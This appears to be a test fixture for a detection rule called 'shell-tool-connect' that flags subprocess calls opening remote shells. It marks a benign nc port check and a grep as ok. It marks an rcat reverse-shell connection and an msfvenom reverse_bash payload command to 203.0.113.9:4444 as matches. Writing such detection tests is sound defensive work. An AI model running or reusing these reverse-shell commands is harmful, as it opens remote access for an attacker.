import subprocess

# ok: shell-tool-connect
subprocess.run(["nc", "-z", "db.internal", "5432"])
# ok: shell-tool-connect
subprocess.run(["grep", "-e", "bash", "/etc/shells"])
# ruleid: shell-tool-connect
subprocess.Popen(["rcat", "connect", "-s", "sh", "203.0.113.9", "4444"])
# ruleid: shell-tool-connect
subprocess.run("msfvenom -p cmd/unix/reverse_bash LHOST=203.0.113.9 LPORT=4444 -f raw", shell=True)
